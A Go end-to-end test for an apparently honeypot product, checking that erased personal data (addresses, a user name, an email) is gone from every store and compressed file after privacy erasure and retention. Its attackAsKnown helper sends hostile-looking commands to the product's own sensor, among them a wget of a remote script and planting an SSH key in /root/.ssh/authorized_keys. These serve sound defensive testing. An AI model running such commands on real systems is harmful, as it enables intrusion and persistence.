package e2e

import (
	"archive/zip"
	"bytes"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"net/netip"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/klauspost/compress/zstd"

	"honeyguide"
	"honeyguide/internal/client"
	"honeyguide/internal/eventlog"
	"honeyguide/internal/eventlog/embedded"
	"honeyguide/internal/state"
	"honeyguide/internal/state/sqlite"
	"honeyguide/test/rig"
)

// formsOf are the byte sequences by which a value could stand in a file: texts,
// whose case does not matter, and bytes.
func formsOf(value string) (out, bin [][]byte) {
	out = [][]byte{[]byte(value)}
	for k := range 3 { // base64, wherever in its input the value begins
		text := base64.StdEncoding.EncodeToString([]byte(strings.Repeat(" ", k) + value))
		from, to := (k*8+5)/6, len(text)-4
		if to-from > 6 {
			out = append(out, []byte(text[from:to]))
		}
	}
	wide := []byte{}
	for _, c := range utf16.Encode([]rune(value)) {
		wide = append(wide, byte(c), byte(c>>8))
	}
	escaped := ""
	for _, c := range value {
		escaped += fmt.Sprintf(`\u%04x`, c)
	}
	out = append(out, wide, []byte(escaped))
	if a, err := netip.ParseAddr(value); err == nil {
		bin = append(bin, a.AsSlice())
		out = append(out, []byte(a.StringExpanded()))
		if a.Is4() {
			b := a.As4()
			n := uint32(b[0])<<24 | uint32(b[1])<<16 | uint32(b[2])<<8 | uint32(b[3])
			bin = append(bin, []byte{b[3], b[2], b[1], b[0]})
			out = append(out, []byte(strconv.FormatUint(uint64(n), 10)), []byte(fmt.Sprintf("%d-%d-%d-%d", b[0], b[1], b[2], b[3])), []byte("::ffff:"+value))
		}
	}
	return out, bin
}

// folded is a copy with small letters; bytes that are none stay what they are.
func folded(b []byte) []byte {
	out := bytes.Clone(b)
	for i, c := range out {
		if c >= 'A' && c <= 'Z' {
			out[i] |= 0x20
		}
	}
	return out
}

// left looks for values in every file of a folder: as it lies there, and in every
// compressed frame in it, wherever that begins.
func left(t *testing.T, dir string, values ...string) (hits []string) {
	t.Helper()
	dec, err := zstd.NewReader(nil, zstd.WithDecoderConcurrency(1), zstd.IgnoreChecksum(true), zstd.WithDecoderMaxMemory(64<<20))
	if err != nil {
		t.Fatal(err)
	}
	defer dec.Close()
	err = filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return err
		}
		raw, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		name, _ := filepath.Rel(dir, path)
		look := func(where string, b []byte) {
			low := folded(b)
			for _, v := range values {
				text, bin := formsOf(v)
				for _, f := range text {
					if bytes.Contains(low, folded(f)) {
						hits = append(hits, fmt.Sprintf("%s%s has %q", name, where, f))
					}
				}
				for _, f := range bin {
					if bytes.Contains(b, f) {
						hits = append(hits, fmt.Sprintf("%s%s has %q", name, where, f))
					}
				}
			}
		}
		look("", raw)
		for at := 0; ; at += 4 {
			i := bytes.Index(raw[at:], []byte{0x28, 0xb5, 0x2f, 0xfd})
			if i < 0 {
				return nil
			}
			at += i
			if err := dec.Reset(bytes.NewReader(raw[at:])); err == nil {
				plain, _ := io.ReadAll(io.LimitReader(dec, 32<<20)) // half a frame is worth looking at
				look(" (packed)", plain)
			}
		}
	})
	if err != nil {
		t.Fatal(err)
	}
	slices.Sort(hits)
	return slices.Compact(hits)
}

// Whose data is to go: an attacker at a decoy, others other products told of, and
// a person by name and by mail.
const (
	visitor = "127.0.113.77"
	stated4 = "198.51.100.77"
	stated6 = "2001:db8:77::abcd"
	named   = "zebulonk"
	mailed  = "zeb.k@mail.example"
)

// A former came days ago. Whoever is older than may be kept is let go by retention
// alone; the other becomes a pseudonym: the name of that one stands in no free text,
// where names are not looked for.
type former struct {
	days             int
	addr, name, mail string
	free             bool
}

func (f former) values() []string { return []string{f.addr, f.name, f.mail} }

var formers = []former{
	{days: 40, addr: "192.0.2.201", name: "methusalahx", mail: "meth.x@mail.example", free: true},
	{days: 25, addr: "192.0.2.77", name: "hezekiahx", mail: "hez.x@mail.example"},
}

// TestNothingPersonalIsLeft: what five values left behind, in everything the
// product writes, is gone after they were erased, what is older than it may be is
// gone by itself, and the rest goes on working.
func TestNothingPersonalIsLeft(t *testing.T) {
	if testing.Short() {
		t.Skip("runs the whole product; -short leaves it out")
	}
	rig.Need(t, "curl")
	data := t.TempDir()
	long := slices.Concat(formers[0].values(), formers[1].values())
	furnishOld(t, data)
	places := 0
	for _, v := range long {
		if list := left(t, data, v); len(list) < 2 {
			t.Errorf("%s is in %q only before retention: the search or what is old is too weak", v, list)
		} else {
			places += len(list)
		}
	}
	sets := append([]string{"sensors.ssh.accept=after-1", "store.retention_days=30", "privacy.pseudonymise_after_days=20"}, fast...)
	core := rig.Start(t, data, sets...)
	attackAsKnown(t, core)
	values := []string{visitor, stated4, stated6, named, mailed}
	var stays []string
	for deadline := time.Now().Add(30 * time.Second); time.Now().Before(deadline); time.Sleep(time.Second) {
		if stays = left(t, data, long...); len(stays) == 0 {
			break
		}
	}
	if len(stays) > 0 {
		t.Errorf("retention left %d\n%s\n%s", len(stays), strings.Join(stays, "\n"), core.Output())
	}

	before := left(t, data, values...)
	for _, v := range values { // the search finds what is there
		if !slices.ContainsFunc(before, func(h string) bool { return strings.Contains(h, fmt.Sprintf("%q", v)) }) {
			t.Errorf("%s is in no file before it is erased: the search or the attack is too weak", v)
		}
	}
	for _, where := range []string{"events/", "state.db", "recordings/", "audit/", "(packed)"} {
		if !slices.ContainsFunc(before, func(h string) bool { return strings.Contains(h, where) }) {
			t.Errorf("nothing is in %s before: %q", where, before)
		}
	}
	subjects := []string{"address:" + visitor, "address:" + stated4, "address:" + stated6, "user:" + named, "email:" + mailed}
	handOut(t, data, subjects[0])
	for _, s := range subjects {
		if out, errs, status := rig.CLI(t, data, nil, "privacy", "erase", s, "--reason", "asked by letter of "+strings.SplitN(s, ":", 2)[1], "--yes", "-o", "json"); status != 0 {
			t.Fatalf("erase: %d %s %s", status, out, errs)
		}
	}
	for _, s := range subjects {
		var found client.PrivacyFound
		ask(t, data, &found, "privacy", "find", s)
		if len(found.Found) > 0 {
			t.Errorf("%s is still found: %+v", s, found.Found)
		}
	}
	during := left(t, data, values...)
	if len(during) > 0 {
		t.Errorf("while the core runs: %d\n%s", len(during), strings.Join(during, "\n"))
	}
	// Whoever became a pseudonym is one source still, and is found by the value as long
	// as the key is there.
	var found client.PrivacyFound
	ask(t, data, &found, "privacy", "find", "address:"+formers[1].addr)
	for what, want := range map[string]int64{"events": 50, "session": 20, "alert": 20, "recordings": 1} {
		if !slices.ContainsFunc(found.Found, func(r client.PrivacyRow) bool { return r.What == what && r.N == want }) {
			t.Errorf("want %d of %s about a pseudonym: %+v", want, what, found.Found)
		}
	}
	if out, errs, status := rig.CLI(t, data, nil, "privacy", "forget-key", "--reason", "over", "--yes"); status != 0 {
		t.Errorf("forget the key: %d %s %s", status, out, errs)
	}
	ask(t, data, &found, "privacy", "find", "address:"+formers[1].addr)
	if len(found.Found) > 0 {
		t.Errorf("without the key it is still found: %+v", found.Found)
	}
	// Life goes on: what is judged now knows nothing of before.
	counted := len(awaitAlerts(t, core, "persistence_ssh_key"))
	from(t, "127.0.0.9", core.Sensor("ssh"), "root", "another", "id; uname -a")
	core.Stop()
	after := left(t, data, append(long, values...)...)
	t.Logf("TRUST name=pii-left figure=%d unit=places target=<=0 of=%d", len(after), len(before)+places)
	if len(after) > 0 {
		t.Errorf("after the core stopped: %d\n%s", len(after), strings.Join(after, "\n"))
	}
	if out, errs, status := rig.CLI(t, data, nil, "audit", "verify", "--dir", filepath.Join(data, "audit")); status != 0 {
		t.Errorf("the audit log does not verify: %d %s %s", status, out, errs)
	}
	core = rig.Start(t, data, sets...)
	if n := len(awaitAlerts(t, core, "persistence_ssh_key")); n < counted {
		t.Errorf("%d alerts after a start, %d before: erasing must not count as deleting", n, counted)
	}
	var list client.Page[client.Erasure]
	ask(t, data, &list, "privacy", "erasures")
	if len(list.Items) != len(subjects) || slices.ContainsFunc(list.Items, func(e client.Erasure) bool { return e.State != "done" || len(e.Counts) == 0 }) {
		t.Errorf("the ledger: %+v", list.Items)
	}
}

func ask(t *testing.T, data string, into any, args ...string) {
	t.Helper()
	out, errs, status := rig.CLI(t, data, nil, append(args, "-o", "json")...)
	if status != 0 {
		t.Fatalf("%q: %d %s", args, status, errs)
	}
	if err := json.Unmarshal([]byte(out), into); err != nil {
		t.Fatalf("%q: %v: %s", args, err, out)
	}
}

// attackAsKnown leaves the values wherever it can.
func attackAsKnown(t *testing.T, core *rig.Core) {
	t.Helper()
	addr, web := core.Sensor("ssh"), core.Sensor("http")
	for _, p := range []string{"123456", "admin", "root123"} {
		from(t, visitor, addr, named, p, "true")
	}
	for range 6 {
		from(t, visitor, addr, "root", "one", "id")
	}
	for _, line := range []string{
		"echo " + named + " was here; ping -c1 " + stated4 + "; wget http://" + stated4 + "/x.sh; w; last | head -3; env | grep SSH",
		"useradd " + named + "; echo " + mailed + " > /root/mail; echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI " + named + "@" + stated4 + " >> /root/.ssh/authorized_keys",
	} {
		from(t, visitor, addr, "root", "one", line)
	}
	from(t, visitor, addr, "root", "one", "-tt", "echo hello "+named+"; echo "+stated6)
	curl(t, "--interface", visitor, "-H", "X-Forwarded-For: "+stated6, "-d", "username="+named+"&password=x&mail="+mailed, "http://"+web+"/login")
	curl(t, "--interface", visitor, "http://"+web+"/?q="+named+"&ip=host-198-51-100-77.isp.example&n=3325256781")

	var lines strings.Builder
	for n := range 40 {
		fmt.Fprintf(&lines, "%s\n", strings.NewReplacer("198.51.100."+strconv.Itoa(1+n%200), stated4, "ET TEST rule", "login of "+named+" "+mailed).Replace(eveLine(n)))
		fmt.Fprintf(&lines, "%s\n", strings.Replace(eveLine(n+1000), "198.51.100."+strconv.Itoa(1+(n+1000)%200), stated6, 1))
	}
	fmt.Fprintf(&lines, "{\"timestamp\": broken, %q, %q, %q}\n", stated4, stated6, named)
	if status, body, err := core.Post("/api/v1/ingest?wait=true&name=eve.json&format=suricata", "application/octet-stream", strings.NewReader(lines.String())); err != nil || status >= 300 && status != 422 {
		t.Fatalf("ingest: %d %s %v", status, body, err)
	}
	alerts := awaitAlerts(t, core, "persistence_ssh_key")
	// People write about them, and somebody tries to log in.
	for path, body := range map[string]string{
		"/api/v1/attackers/attacker:" + visitor + "/notes":      `{"text":"` + named + ` called from ` + stated4 + `, ` + mailed + `"}`,
		"/api/v1/incidents/" + alerts[0].Incident + "/comments": `{"text":"ask ` + named + ` <` + mailed + `> about ` + stated6 + `"}`,
		"/api/v1/views":      `{"name":"` + named + `","room":"alerts","query":"src=` + stated4 + `"}`,
		"/api/v1/auth/login": `{"name":"` + named + `","password":"x"}`,
	} {
		if status, answer, err := core.Post(path, "application/json", strings.NewReader(body)); err != nil || status >= 500 || status >= 400 && !strings.Contains(path, "login") {
			t.Errorf("%s: %d %s %v", path, status, answer, err)
		}
	}
	rig.Eventually(t, 20*time.Second, "the session's end", func() bool {
		open, err := rig.List[honeyguide.Session](core, "/api/v1/sessions?open=true")
		return err == nil && len(open) == 0
	})
}

// handOut takes out what is held about a subject and looks into it.
func handOut(t *testing.T, data, subject string) {
	t.Helper()
	file := filepath.Join(t.TempDir(), "out.zip")
	if _, errs, status := rig.CLI(t, data, nil, "privacy", "find", subject, "--export", file); status != 0 {
		t.Fatalf("export: %d %s", status, errs)
	}
	z, err := zip.OpenReader(file)
	if err != nil {
		t.Fatal(err)
	}
	defer z.Close()
	want := map[string]bool{"events.jsonl": true, "session.jsonl": true, "alert.jsonl": true, "summary.json": true}
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		text, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		if strings.HasSuffix(f.Name, ".jsonl") && f.Name != "recordings.jsonl" {
			for _, line := range rig.Lines(string(text)) {
				if !json.Valid([]byte(line)) || !regexp.MustCompile(`127\.0\.113\.77|127-0-113-77|2130735437|Lj`).MatchString(line) && !strings.Contains(line, "MTI3LjAuMTEzLjc3") {
					t.Errorf("%s holds a line that is not about it: %.200s", f.Name, line)
				}
			}
		}
		delete(want, f.Name)
	}
	if len(want) > 0 {
		t.Errorf("the archive has no %v", want)
	}
}

// furnishOld makes a data folder as forty days of use leave one: the product's own
// stores under a clock of then, with everything the detectors were to read read.
func furnishOld(t *testing.T, data string) {
	t.Helper()
	ctx := t.Context()
	var clock time.Time
	now := func() time.Time { return clock }
	for _, dir := range []string{"events", "recordings"} {
		if err := os.MkdirAll(filepath.Join(data, dir), 0o700); err != nil {
			t.Fatal(err)
		}
	}
	clock = time.Now().UTC().AddDate(0, 0, -formers[0].days)
	log, err := embedded.Open(ctx, embedded.Config{}, eventlog.Deps{Dir: filepath.Join(data, "events"), Now: now})
	if err != nil {
		t.Fatal(err)
	}
	store, err := sqlite.Open(ctx, sqlite.Config{}, state.Deps{Dir: data, Now: now})
	if err != nil {
		t.Fatal(err)
	}
	// The log believes in a day it was told of for a minute, and puts what comes before
	// that into the old one.
	last := eventlog.Seq(0)
	put := func(e honeyguide.Event) {
		t.Helper()
		got, err := log.Append(ctx, eventlog.Batch{Events: []honeyguide.Event{e}})
		if err != nil {
			t.Fatal(err)
		}
		last = got.Lo
	}
	moveTo := func(to time.Time) {
		was := clock
		for k := range 2 {
			clock = to.Add(time.Duration(k) * 2 * time.Minute)
			put(honeyguide.Event{Time: was, Observed: was, Sensor: "core", Class: honeyguide.ClassLifecycle, Activity: "start"})
		}
	}
	for i, f := range formers {
		if i > 0 {
			moveTo(time.Now().UTC().AddDate(0, 0, -f.days))
		}
		comeThen(t, data, f, clock, put, store)
	}
	moveTo(time.Now().UTC().Add(-10 * time.Minute))
	if err := store.Update(ctx, func(tx state.Tx) error { return tx.Cursors().Move(ctx, "detect", 0, int64(last)) }); err != nil {
		t.Fatal(err)
	}
	if err := errors.Join(store.Close(), log.Close()); err != nil {
		t.Fatal(err)
	}
	bad := filepath.Join(data, "events", time.Now().UTC().AddDate(0, 0, -formers[0].days-1).Format(time.DateOnly)+".db.bad") // put aside by the core of then
	if err := os.WriteFile(bad, []byte("half a file with "+formers[0].addr), 0o600); err != nil {
		t.Fatal(err)
	}
}

// comeThen leaves what one of them left.
func comeThen(t *testing.T, data string, f former, then time.Time, put func(honeyguide.Event), store state.Store) {
	t.Helper()
	ctx := t.Context()
	src := honeyguide.Endpoint{Addr: netip.AddrPortFrom(netip.MustParseAddr(f.addr), 999)}
	text := "<" + f.mail + "> from " + f.addr
	if f.free {
		text = f.name + " " + text
	}
	session := fmt.Sprintf("01oldsession%03d", f.days)
	for range 50 {
		put(honeyguide.Event{
			Time: then, Observed: then, Sensor: "ssh", Session: session, Class: honeyguide.ClassSSH, Activity: honeyguide.ActivityCommand, Src: src,
			Attrs: map[string]any{honeyguide.AttrUser: f.name, honeyguide.AttrCommand: "echo " + text}, Raw: []byte(text),
		})
	}
	if err := store.Update(ctx, func(tx state.Tx) error {
		for n := range 20 {
			id := fmt.Sprintf("%s%02d", session, n)
			if err := tx.Sessions().Save(ctx, &honeyguide.Session{ID: id, Src: src, User: f.name, StartedAt: then, LastAt: then, EndedAt: then}); err != nil {
				return err
			}
			in := honeyguide.Incident{Key: fmt.Sprintf("attacker:%s:%d", f.addr, n), Title: text, Attackers: []string{"attacker:" + f.addr}, CreatedAt: then, UpdatedAt: then, Status: honeyguide.IncidentClosed}
			if _, err := tx.Incidents().Save(ctx, &in); err != nil {
				return err
			}
			a := honeyguide.Alert{
				Time: then, LastAt: then, CreatedAt: then, Title: text, Src: src, Attacker: "attacker:" + f.addr, Session: id, Incident: in.ID, Status: honeyguide.AlertAcknowledged,
				DedupeKey: fmt.Sprint("old", f.days, "-", n), Evidence: []honeyguide.Evidence{{EventID: "x", Time: then, Text: text}},
			}
			if _, err := tx.Alerts().Save(ctx, &a); err != nil {
				return err
			}
		}
		if err := tx.DeadLetters().Add(ctx, honeyguide.DeadLetter{Time: then, Source: "x", Raw: []byte(text)}); err != nil {
			return err
		}
		return tx.Notes().Add(ctx, &state.Note{Attacker: "attacker:" + f.addr, At: then, Text: text})
	}); err != nil {
		t.Fatal(err)
	}
	cast := filepath.Join(data, "recordings", session+".cast")
	if err := os.WriteFile(cast, []byte(`{"version":3,"term":{"cols":80,"rows":24}}`+"\n[0.1, \"o\", \""+text+"\"]\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Chtimes(cast, then, then); err != nil {
		t.Fatal(err)
	}
}
